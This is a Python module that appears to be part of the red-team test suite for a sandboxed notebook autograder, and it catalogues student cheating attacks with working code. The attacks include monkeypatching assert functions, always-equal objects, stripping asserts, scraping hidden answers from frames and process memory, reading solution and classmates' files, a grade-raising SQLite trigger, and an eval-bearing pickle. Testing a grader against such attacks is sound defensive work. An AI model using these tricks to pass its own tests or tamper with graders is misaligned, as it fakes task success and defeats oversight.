"""What a student who sets out to cheat would hand in: one attack each, by a mechanism of its own.

An attack is the handout with wrong answers but for the exercise it is after, and there a trick: `target` is
the test cell whose points it wants, `honest` what its code is worth there without the trick. `control` says
where the trick works, for an attack that never works proves nothing:

    ONE_PROCESS     our engine, with test cells run in the student's process, where stock nbgrader runs them
    STOCK           stock nbgrader itself
    PICKLE          an examiner that unpickles what a student's process sends
    {"files", …}    our engine, with these walls of the sandbox taken down
    UNREHEARSED     our engine, walls and all, that has not seen the instructor's own solution

In answers and files `{course}` stands for the course's folder, `{port}` for a server on 127.0.0.1 and
`{shared}` for a folder that everybody may write; the server and the environment variable TRAP_SECRET hold
what `secret` wants.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from importlib import import_module
from pathlib import Path

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell

ONE_PROCESS, STOCK, PICKLE = "one process", "stock", "pickle"
UNREHEARSED: set[str] = set()
WRONG = {
    "square": "def square(x):\n    return 0 * x",
    "gradient": "def gradient(w):\n    return 0 * w",
    "secret": "def secret():\n    return 0",
    "halves": "def halve(n):\n    return 0",
    "slope": "def slope(f, x):\n    return 0",
    "quick": "def quick():\n    raise ValueError",
    "marked": "def double(x):\n    return x",
    "bag": "class Bag:\n    def __init__(self, numbers):\n        pass\nscale = 1.0",
    "thirds": """
limit = 0.0
class Pair:
    x = 0.0
    def __init__(self, *numbers): pass
    def __add__(self, other): return self
    def __enter__(self): return 0.0
    def __exit__(self, *error): pass
    def __len__(self): return 2
    def __getitem__(self, key): return 0.0
def third(x): return 0 * x
def thirds(numbers): return []
def into(numbers, out): pass
def divider(): return lambda x: 0.0
def summary(numbers): return {"of": {"thirds": [0.0]}}
def solved(matrix, right): return 0 * right
def shown(x): print(0)
def refused(x): raise ValueError("no")
def golden(): return 0.0
""",
    "given": """
def priced(x): return np.zeros(3)
def paid(x): return 0.0
def length(kilometres): return 0.0
def first(): return 0.0
def keep(): pass
""",
    "later": """
def total(): return 0.0
def climbed(): return [0.0, 0.0]
def raised(): return 0.0
def further(kilometres): return 0.0
def recalled(): return []
""",
}


@dataclass(frozen=True)
class Attack:
    name: str
    about: str
    target: str
    control: str | frozenset[str]
    answers: dict[str, str]
    files: dict[str, str]
    change: Callable[[NotebookNode], None]
    accomplice: dict[str, str]
    before: bool
    honest: float
    place: Callable[[Path, Path], None]


ATTACKS: list[Attack] = []


def attack(
    name: str,
    about: str,
    target: str,
    trick: str,
    control: str | set[str] = ONE_PROCESS,
    *,
    files: dict[str, str] | None = None,
    change: Callable[[NotebookNode], None] = lambda notebook: None,
    accomplice: str = "",
    before: bool = False,
    honest: float = 0.0,
    place: Callable[[Path, Path], None] = lambda folder, course: None,
) -> None:
    """Add an attack: `trick` is the answer to the exercise `target`. `accomplice` is the answer to `secret`
    of one who hands in before, is graded before, and knows the number. With `before`, an honest submission of
    the same student was graded before. `place` does something to the folder that was handed in, knowing the
    course's.
    """
    control = control if isinstance(control, str) else frozenset(control)
    helper = WRONG | {"secret": accomplice.strip("\n")} if accomplice else {}
    ATTACKS.append(
        Attack(
            name,
            about,
            f"check-{target}",
            control,
            WRONG | {target: trick.strip("\n")},
            files or {},
            change,
            helper,
            before,
            honest,
            place,
        )
    )


def cell_of(notebook: NotebookNode, exercise: str) -> NotebookNode:
    return answer_of(notebook, f"check-{exercise}")


def answer_of(notebook: NotebookNode, grade_id: str) -> NotebookNode:
    return next(
        cell for cell in notebook.cells if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id
    )


# Comparisons and operators

attack(
    "assert_allclose rebound",
    "numpy.testing's comparison does nothing",
    "square",
    """
np.testing.assert_allclose = lambda *a, **k: None
def square(x):
    return 0 * x
""",
)
attack(
    "assert_allclose's code replaced",
    "the function stays, its code object is another",
    "square",
    """
np.testing.assert_allclose.__code__ = (lambda *a, **k: None).__code__
def square(x):
    return 0 * x
""",
)
attack(
    "torch.allclose rebound",
    "torch's comparison says yes",
    "gradient",
    """
torch.allclose = lambda *a, **k: True
def gradient(w):
    return 0 * w
""",
)
attack(
    "an array that agrees",
    "an ndarray subclass that answers numpy's comparisons itself",
    "square",
    """
class Yes(np.ndarray):
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return np.full(self.shape, ufunc not in (np.isnan, np.isinf))
def square(x):
    return np.zeros(x.shape).view(Yes)
""",
)
attack(
    "a tensor that agrees",
    "a Tensor subclass that answers torch's functions itself",
    "gradient",
    """
class Yes(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        return True
def gradient(w):
    return torch.zeros(w.shape).as_subclass(Yes)
""",
)
attack(
    "an int that agrees",
    "an int subclass whose == is always true",
    "secret",
    """
class Yes(int):
    __eq__ = lambda *a: True
    __hash__ = int.__hash__
def secret():
    return Yes()
""",
)
attack(
    "an object that agrees",
    "an object that says it is an int and equals all",
    "secret",
    """
class Yes:
    __class__ = int
    __eq__ = lambda *a: True
def secret():
    return Yes()
""",
)
attack(
    "an object whose sums vanish",
    "operators that give 0, and a test that wants a small difference",
    "halves",
    """
class Nothing:
    __add__ = __radd__ = __sub__ = __rsub__ = lambda *a: 0
def halve(n):
    return Nothing()
""",
)

BAG = """
scale = 1.0
class Zero:
    def __abs__(self): return 0
    def __round__(self, digits=None): return 0
class Liar:
    def __sub__(self, other): return Zero()
    __rsub__ = __sub__
class Bag:
    def __init__(self, numbers): pass
"""
attack(
    "a length without items",
    "len() says how many there should be, and the loop that compares them has none",
    "bag",
    BAG
    + """
    def __len__(self): return 4
    def __iter__(self): return iter(())
""",
)
attack(
    "a length without items, by index",
    "the same without __iter__: Python asks for item 0, and there is none",
    "bag",
    BAG
    + """
    def __len__(self): return 4
    def __getitem__(self, key): raise IndexError
""",
)
attack(
    "an attribute that differs",
    "each time that x is read it has the value that makes x² - x - 1 zero",
    "bag",
    BAG
    + """
    values = [0.0, 0.0, -1.0]
    @property
    def golden(self):
        return self.values.pop(0)
""",
)
attack(
    "a number where the answer is yes or no",
    "an object in place of True, whose difference from anything is small",
    "bag",
    BAG
    + """
    def has(self, number): return Liar()
""",
)
attack(
    "a generator of liars",
    "objects whose difference from anything is small, one by one",
    "bag",
    BAG
    + """
    def running(self):
        while True:
            yield Liar()
""",
)
attack(
    "a liar for a callback",
    "the test's own function is called with such objects",
    "bag",
    BAG
    + """
    def each(self, function):
        for _ in range(4):
            function(Liar())
""",
)
attack(
    "a liar in an exception",
    "an error whose argument is such an object",
    "bag",
    BAG
    + """
    def at_least(self, count):
        raise ValueError("too few", Liar())
""",
)
attack(
    "liars in an array",
    "an array of objects, which subtract themselves",
    "bag",
    BAG
    + """
    def table(self):
        table = np.empty(4, object)
        table[:] = [Liar() for _ in range(4)]
        return table
""",
)
attack(
    "what cannot be changed, changed",
    "a read-only argument is written to by its address, before the test computes with it",
    "bag",
    BAG
    + """
    def doubled(self, values):
        import ctypes
        ctypes.memset(values.ctypes.data, 0, values.nbytes)
        return np.zeros(values.shape)
""",
)
attack(
    "an assignment ignored",
    "the test assigns a variable, and the student's process keeps its own",
    "bag",
    """
import gc
for held in gc.get_objects():
    if type(held).__name__ == "Objects":
        type(held)._do_store = lambda *a: None
"""
    + BAG.replace("scale = 1.0", "scale = 0.0")
    + """
    def scaled(self, by): return 0.0
""",
    UNREHEARSED,
)
# Builtins, names, imports, the interpreter

attack(
    "the name np",
    "the instructor's import rebound to the student's own numpy",
    "square",
    """
real = np
class Fake:
    class testing:
        assert_allclose = staticmethod(lambda *a, **k: None)
    def __getattr__(self, name):
        return getattr(real, name)
np = Fake()
def square(x):
    return 0 * x
""",
)
attack(
    "builtins changed",
    "isinstance says yes, in the module builtins",
    "secret",
    """
import builtins
real = builtins.isinstance
class Yes:
    __eq__ = lambda *a: True
builtins.isinstance = lambda value, kind: type(value) is Yes or real(value, kind)
def secret():
    return Yes()
""",
)
attack(
    "a name shadows a builtin",
    "abs() is the notebook's own",
    "halves",
    """
def abs(x):
    return 0
def halve(n):
    return 0
""",
)
attack(
    "__import__ replaced",
    "the import in the test cell brings another math, whose isclose says yes",
    "slope",
    """
import builtins
real_import = builtins.__import__
class Near:
    isclose = staticmethod(lambda *a, **k: True)
builtins.__import__ = lambda name, *a, **k: Near if name == "math" else real_import(name, *a, **k)
def slope(f, x):
    return 2.0
""",
)
attack(
    "the clock stopped",
    "time.perf_counter always tells the same",
    "quick",
    """
sleep = time.sleep
time.perf_counter = lambda: 0.0
def quick():
    sleep(0.5)
""",
)
attack(
    "a module in sys.modules",
    "numpy.testing is another module from here on",
    "square",
    """
import sys, types
fake = types.ModuleType("numpy.testing")
fake.assert_allclose = lambda *a, **k: None
sys.modules["numpy.testing"] = np.testing = fake
def square(x):
    return 0 * x
""",
)
attack(
    "random numbers foreseen",
    "the generator gives zeros, whose squares are easy",
    "square",
    """
class Zeros:
    def normal(self, size):
        return np.zeros(size)
np.random.default_rng = lambda seed: Zeros()
def square(x):
    return np.array([1.0, 4.0]) if x.shape == (2,) else 0 * x
""",
)
attack(
    "the reference replaced",
    "backward() leaves zeros in .grad",
    "gradient",
    """
def backward(self, *a, **k):
    weights.grad = torch.zeros_like(weights)
torch.Tensor.backward = backward
def gradient(w):
    return torch.full_like(w, 3.0) if (w == 1).all() else 0 * w
""",
)
attack(
    "a dispatch mode",
    "torch asks a mode of the student's before each function",
    "gradient",
    """
from torch.overrides import TorchFunctionMode
class Yes(TorchFunctionMode):
    def __torch_function__(self, function, types, args=(), kwargs=None):
        return True if function is torch.allclose else function(*args, **(kwargs or {}))
mode = Yes()
mode.__enter__()
def gradient(w):
    return 0 * w
""",
)
attack(
    "check.Marks changed",
    "the course's own marks always add up",
    "marked",
    """
check.Marks.total = lambda self: 3.0
def double(x):
    return x
""",
)
attack(
    "check.close changed",
    "the course's own comparison is silent",
    "marked",
    """
check.close = lambda *a, **k: None
def double(x):
    return x
""",
)

# IPython

attack(
    "an input transformer",
    "IPython turns each later cell into `pass`",
    "secret",
    """
get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"])
""",
)
attack(
    "a syntax tree without asserts",
    "an AST transformer takes every assert out",
    "secret",
    """
import ast
class NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
get_ipython().ast_transformers.append(NoAsserts())
def secret():
    return 0
""",
)
attack(
    "run_code replaced",
    "the shell runs no code any more",
    "secret",
    """
async def nothing(*a, **k):
    return False
get_ipython().run_code = nothing
""",
)
attack(
    "the shell's namespace",
    "user_ns is a dict that keeps what the test assigns",
    "secret",
    """
class Spy(dict):
    seen = 0
    def __setitem__(self, name, value):
        if name == "expected":
            Spy.seen = value
        dict.__setitem__(self, name, value)
get_ipython().user_ns = Spy(get_ipython().user_ns)
def secret():
    return Spy.seen
get_ipython().user_ns["secret"] = secret
""",
)
attack(
    "the display hook",
    "a float is displayed as 2.0",
    "halves",
    """
texts = get_ipython().display_formatter.formatters["text/plain"]
texts.for_type(float, lambda value, printer, cycle: printer.text("2.0"))
def halve(n):
    return 0
""",
)
attack(
    "the history",
    "the source of the test cell is the last entry of In",
    "secret",
    """
import re
def secret():
    found = re.search(r"expected = (\\d+)", get_ipython().user_ns["In"][-1])
    return int(found.group(1)) if found else 0
""",
)

# Frames, memory, the garbage collector

attack(
    "the shared namespace",
    "secret() reads the test's variable by its name",
    "secret",
    """
def secret():
    return globals().get("expected", 0)
""",
)
attack(
    "the caller's frame",
    "secret() reads the variable from the frame that calls it",
    "secret",
    """
import sys
def secret():
    frame = sys._getframe()
    while frame:
        if "expected" in frame.f_locals:
            return frame.f_locals["expected"]
        frame = frame.f_back
    return 0
""",
)
attack(
    "the test's syntax tree",
    "IPython runs the test statement by statement, from a tree in one of its frames",
    "secret",
    """
import ast, sys
def secret():
    frame = sys._getframe()
    while frame:
        for value in list(frame.f_locals.values()):
            for node in value if type(value) is list else ():
                constant = isinstance(node, ast.Assign) and isinstance(node.value, ast.Constant)
                if constant and type(node.value.value) is int:
                    return node.value.value
        frame = frame.f_back
    return 0
""",
)
attack(
    "the source lines",
    "linecache has the test's source, for tracebacks",
    "secret",
    """
import linecache, re
def secret():
    for entry in list(linecache.cache.values()):
        found = len(entry) > 2 and re.search(r"expected = (\\d+)", "".join(entry[2]))
        if found:
            return int(found.group(1))
    return 0
""",
)
attack(
    "the garbage collector",
    "gc knows every container, and one holds the test's source",
    "secret",
    """
import gc, re
def secret():
    for held in gc.get_objects():
        if type(held) in (dict, list, tuple):
            for value in list(held.values() if type(held) is dict else held):
                found = type(value) is str and re.search(r"^expected = (\\d+)", value, re.M)
                if found:
                    return int(found.group(1))
    return 0
""",
)
attack(
    "the reference among the objects",
    "gc finds the tensor that has a .grad",
    "gradient",
    """
import gc
def gradient(w):
    for held in gc.get_objects():
        leaf = type(held) is torch.Tensor and held.is_leaf and held.grad is not None
        if leaf and held.shape == w.shape and bool((held == w).all()):
            return held.grad
    return torch.full_like(w, 3.0) if (w == 1).all() else 0 * w
""",
)
attack(
    "a tracer",
    "sys.settrace sees the frame that runs the test",
    "secret",
    """
import sys
seen = [0]
def trace(frame, event, argument):
    if event == "call" and frame.f_code.co_name == "secret":
        above = frame.f_back
        while above:
            seen.append(above.f_globals.get("expected", 0))
            above = above.f_back
sys.settrace(trace)
def secret():
    return max(seen)
""",
)
attack(
    "an audit hook",
    "an audit hook gets each code object that is executed",
    "secret",
    """
import sys, types
numbers = [0]
def hook(event, arguments):
    if event == "exec" and type(arguments[0]) is types.CodeType:
        numbers.extend(c for c in arguments[0].co_consts if type(c) is int and 10**8 < c < 10**9)
sys.addaudithook(hook)
def secret():
    return numbers[-1]
""",
)
attack(
    "a thread that changes the test",
    "a thread keeps setting the test's variable to 0",
    "secret",
    """
import threading, time as clock
def write():
    while True:
        if "expected" in globals():
            globals()["expected"] = 0
        clock.sleep(0.0005)
threading.Thread(target=write, daemon=True).start()
def secret():
    clock.sleep(0.05)
    return 0
""",
)
attack(
    "the process's memory",
    "/proc/self/mem is searched for the test's source",
    "secret",
    """
import re
def secret():
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
        for line in maps:
            place, mode = line.split()[:2]
            first, last = (int(part, 16) for part in place.split("-"))
            if mode.startswith("rw") and last - first < 1 << 28:
                try:
                    memory.seek(first)
                    found = re.search(rb"\\nexpected = (\\d{9})\\n", memory.read(last - first))
                except (OSError, ValueError, OverflowError):
                    continue
                if found:
                    return int(found.group(1))
    return 0
""",
)
attack(
    "the function that was passed",
    "slope() looks into the globals of the f that the test gives it",
    "slope",
    """
def slope(f, x):
    return f.__globals__["truth"](x) if "truth" in f.__globals__ else 2.0
""",
)
attack(
    "a pickle",
    "secret() returns what, unpickled, evaluates an expression where it is unpickled",
    "secret",
    """
class Bomb:
    def __reduce__(self):
        return eval, ("globals().get('expected', 0)",)
def secret():
    return Bomb()
""",
    PICKLE,
)

# Files

FIND = """
import re
def found_in(text):
    found = re.search(r"expected = (\\\\?d?\\d{9})", text)
    return int(found.group(1)) if found else 0
def read(path):
    try:
        with open(path, errors="replace") as file:
            return found_in(file.read())
    except OSError:
        return 0
"""
attack(
    "the solutions' folder",
    "secret() reads the instructor's notebook",
    "secret",
    FIND
    + """
def secret():
    return read("{course}/source/trap/trap.ipynb")
""",
    {"files"},
)
attack(
    "the folders above",
    "a relative path to the instructor's notebook",
    "secret",
    FIND
    + """
def secret():
    return max(read("../" * up + "source/trap/trap.ipynb") for up in range(6))
""",
    STOCK,
)
attack(
    "the gradebook, read",
    "nbgrader's database holds the hidden tests",
    "secret",
    FIND
    + """
def secret():
    return read("{course}/gradebook.db")
""",
    {"files"},
)
attack(
    "the gradebook, written",
    "a trigger in the database raises each mark that is entered",
    "secret",
    """
import sqlite3
def secret():
    return 0
try:
    with sqlite3.connect("{course}/gradebook.db") as book:
        book.execute('''create trigger generous after update of auto_score on grade
            when new.auto_score < 5 and new.notebook_id in (
            select n.id from submitted_notebook n join submitted_assignment a on n.assignment_id = a.id
            where a.student_id = 'the-gradebook-written-z')
            begin update grade set
            auto_score = (select max_score from grade_cells where id = new.cell_id) where id = new.id; end''')
except sqlite3.Error:
    pass
""",
    STOCK,
)
attack(
    "a program that reads",
    "the reading is done by a program that the shell starts",
    "secret",
    FIND
    + """
told = !cat {course}/source/trap/trap.ipynb
def secret():
    return found_in("\\n".join(told))
""",
    {"files"},
)
attack(
    "another student's notebook",
    "ada has the right answer, and her file is read",
    "secret",
    """
import re
def secret():
    try:
        found = re.search(r"return (\\d{9})", open("{course}/submitted/ada/trap/trap.ipynb").read())
    except OSError:
        found = None
    return int(found.group(1)) if found else 0
""",
    {"files"},
)
attack(
    "the environment",
    "the grader's environment has the number",
    "secret",
    """
import os
def secret():
    return int(os.environ.get("TRAP_SECRET", 0))
""",
    STOCK,
)
attack(
    "a server near by",
    "a server on 127.0.0.1 tells the number",
    "secret",
    """
import urllib.request
def secret():
    try:
        return int(urllib.request.urlopen("http://127.0.0.1:{port}/", timeout=2).read())
    except OSError:
        return 0
""",
    {"network"},
)
attack(
    "torch.py beside the notebook",
    "the student's file is imported in place of torch",
    "gradient",
    """
def gradient(w):
    return 0 * w
""",
    STOCK,
    files={
        "torch.py": """
import numpy
float64 = numpy.float64
class Tensor:
    grad = None
    def __rmul__(self, other): return self
    def __pow__(self, other): return self
    def sum(self): return self
    def backward(self): pass
    def detach(self): return self
    clone = detach
class Generator:
    def manual_seed(self, seed): return self
def ones(*a, **k): return Tensor()
randn = full = ones
def allclose(*a): return True
"""
    },
)
attack(
    "a package beside the notebook",
    "a folder course/ with a check of its own",
    "marked",
    """
def double(x):
    return x
""",
    STOCK,
    files={
        "course/__init__.py": "",
        "course/check.py": """
from contextlib import nullcontext
class Marks:
    def __init__(self, *a, **k): pass
    def part(self, *a): return nullcontext()
    def total(self): return 3.0
def close(*a, **k): pass
""",
    },
)

# What stays behind: for others, for oneself

attack(
    "a note for the next",
    "one who knows the number leaves it in a folder that all may write",
    "secret",
    """
def secret():
    try:
        return int(open("{shared}/note").read())
    except OSError:
        return 0
""",
    {"files"},
    accomplice="""
def secret():
    return 731924685
try:
    open("{shared}/note", "w").write("731924685")
except OSError:
    pass
""",
)
attack(
    "a note in /tmp",
    "the same in /tmp, where every process may write",
    "secret",
    """
import glob
def secret():
    notes = glob.glob("/tmp/trap-note-*")
    return int(notes[0].rpartition("-")[2]) if notes else 0
""",
    {"files"},
    accomplice="""
def secret():
    return 731924685
open("/tmp/trap-note-731924685", "w").close()
""",
)
attack(
    "shared memory",
    "the same in System V shared memory, which outlives its process",
    "secret",
    """
import ctypes
def secret():
    libc = ctypes.CDLL(None)
    libc.shmat.restype = ctypes.c_void_p
    place = libc.shmget(0x7472, 8, 0o666)
    at = libc.shmat(place, None, 0) if place != -1 else None
    return ctypes.c_long.from_address(at).value if at and at != ctypes.c_void_p(-1).value else 0
""",
    {"ipc"},
    accomplice="""
import ctypes
def secret():
    return 731924685
libc = ctypes.CDLL(None)
libc.shmat.restype = ctypes.c_void_p
place = libc.shmget(0x7472, 8, 0o1666)
at = libc.shmat(place, None, 0) if place != -1 else None
if at and at != ctypes.c_void_p(-1).value:
    ctypes.c_long.from_address(at).value = 731924685
""",
)
attack(
    "a server that stays",
    "the same, told by a process that outlives its notebook, on an abstract socket",
    "secret",
    """
import socket
def secret():
    try:
        with socket.socket(socket.AF_UNIX) as s:
            s.settimeout(2)
            s.connect("\\0trap-daemon")
            return int(s.recv(100))
    except OSError:
        return 0
""",
    STOCK,
    accomplice="""
import os, socket
def secret():
    return 731924685
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        try:
            s = socket.socket(socket.AF_UNIX)
            s.bind("\\0trap-daemon")
            s.listen()
            s.settimeout(60)
            while True:
                s.accept()[0].send(b"731924685")
        finally:
            os._exit(0)
    os._exit(0)
""",
)
# What a notebook says of itself

attack(
    "skip-execution",
    "a tag on the test cell says that it is not to be run",
    "secret",
    "def secret():\n    return 0",
    STOCK,
    change=lambda notebook: cell_of(notebook, "secret").metadata.update(tags=["skip-execution"]),
)
attack(
    "student-kernel",
    "a tag on the test cell says that it is to be run in the student's process",
    "secret",
    "def secret():\n    return globals().get('expected', 0)",
    ONE_PROCESS,
    change=lambda notebook: cell_of(notebook, "secret").metadata.update(tags=["student-kernel"]),
)
attack(
    "the test cell deleted",
    "the second submission has no test cell, and keeps the marks of the first",
    "secret",
    "def secret():\n    return 0",
    STOCK,
    before=True,
    change=lambda notebook: notebook.cells.remove(cell_of(notebook, "secret")),
)
attack(
    "a cell added before the test",
    "the comparison is replaced in a cell of the student's own",
    "square",
    "def square(x):\n    return 0 * x",
    change=lambda notebook: notebook.cells.insert(
        notebook.cells.index(cell_of(notebook, "square")),
        new_code_cell("np.testing.assert_allclose = lambda *a, **k: None"),
    ),
)
attack(
    "the imports' cell edited",
    "np is imported from another place in the instructor's own cell",
    "square",
    "def square(x):\n    return 0 * x",
    STOCK,
    change=lambda notebook: notebook.cells.insert(
        1, new_code_cell("import numpy.testing\nnumpy.testing.assert_allclose = lambda *a, **k: None")
    ),
)

_here = len(ATTACKS)
for more in ("values", "ways"):  # each adds its own
    import_module(more)
MORE = ATTACKS[_here:]
"""Those of the other files: what shows that they work takes minutes."""
